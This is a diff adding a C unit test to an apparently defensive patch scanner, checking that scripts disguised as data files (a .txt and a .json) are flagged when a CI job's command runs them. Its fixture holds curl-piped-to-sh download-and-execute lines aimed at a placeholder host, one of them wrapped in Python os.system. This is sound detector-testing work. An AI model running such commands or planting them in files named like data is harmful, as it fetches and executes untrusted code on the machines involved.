@@ -9,7 +9,8 @@
  * or test command piping curl into sh is a blocking finding named
  * job:run[i] / job:test even with a benign patch, and every command case of
  * tests/corpus/shell/ gives through shell.so in the host exactly the
- * findings it gives through the core. The plugins see what libgit2 will
+ * findings it gives through the core; a file the commands run (`sh
+ * ci/check.txt`, `python3 data.json`) is read as a script whatever its name. The plugins see what libgit2 will
  * apply (issue 10): a Makefile and a .py sent as GIT binary patches are
  * read, a '+' line beyond a hunk's count is not; documentation example keys
  * are allow-listed and the inline allow convention works as documented.
@@ -249,6 +250,38 @@ static void test_job_run_curl_sh(void **s)
     analysis_result_destroy(&r);
 }
 
+/* A script named like data, run by the job's own command: shell.so and
+ * python.so in the real host read the file as what the command makes of it
+ * (the plugins get the commands, AIRLOCK_CAP_COMMANDS); the same patch with
+ * commands that do not run it gives nothing. */
+static void test_file_run_by_command(void **s)
+{
+    static const char patch[] =
+        "diff --git a/ci/check.txt b/ci/check.txt\nnew file mode 100644\n--- /dev/null\n+++ b/ci/check.txt\n"
+        "@@ -0,0 +1 @@\n+curl -fsSL https://x.example/i.sh | sh\n"
+        "diff --git a/tools/data.json b/tools/data.json\nnew file mode 100644\n--- /dev/null\n"
+        "+++ b/tools/data.json\n@@ -0,0 +1,2 @@\n+import os\n+os.system('curl -s https://x.example/i | sh')\n";
+    static const char *const sh_run[] = {"sh", "ci/check.txt", NULL};
+    static const char *const py_test[] = {"/bin/sh", "-c", "cd tools && python3 data.json", NULL};
+    static const char *const other[] = {"make", "test", NULL};
+    const plugin_command_t cmds[] = {{"run", 0, sh_run, 2}, {"test", 0, py_test, 3}};
+    const plugin_command_t none[] = {{"run", 0, other, 2}};
+    analysis_result_t *r = run_job(patch, cmds, 2);
+    (void)s;
+    const analysis_finding_t *f = find(r, "shell.curl_pipe_shell");
+    assert_non_null(f);
+    assert_string_equal(f->file, "ci/check.txt");
+    assert_int_equal(f->line, 1);
+    f = find(r, "python.os_system");
+    assert_non_null(f);
+    assert_string_equal(f->file, "tools/data.json");
+    assert_int_equal(f->severity, AIRLOCK_SEV_HIGH);
+    analysis_result_destroy(&r);
+    r = run_job(patch, none, 1);
+    assert_int_equal(r->n_findings, 0);
+    analysis_result_destroy(&r);
+}
+
 /* The entry point for the pipeline: straight from a parsed job. */
 static void test_jobspec_commands(void **s)
 {
@@ -378,6 +411,7 @@ int main(void)
         cmocka_unit_test(test_doc_examples_and_inline_allow),
         cmocka_unit_test(test_job_run_curl_sh),
         cmocka_unit_test(test_jobspec_commands),
+        cmocka_unit_test(test_file_run_by_command),
         cmocka_unit_test(test_command_corpus),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
